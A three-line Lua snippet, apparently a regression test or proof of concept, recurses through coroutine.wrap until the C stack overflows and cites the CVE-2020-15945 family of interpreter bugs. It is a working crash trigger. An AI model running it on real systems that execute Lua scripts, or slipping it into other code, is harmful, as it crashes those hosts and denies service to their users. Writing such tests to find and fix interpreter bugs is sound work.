-- coroutines that resume coroutines until C's stack is full (CVE-2020-15945's family)
local function deeper() return coroutine.wrap(deeper)() end
deeper()
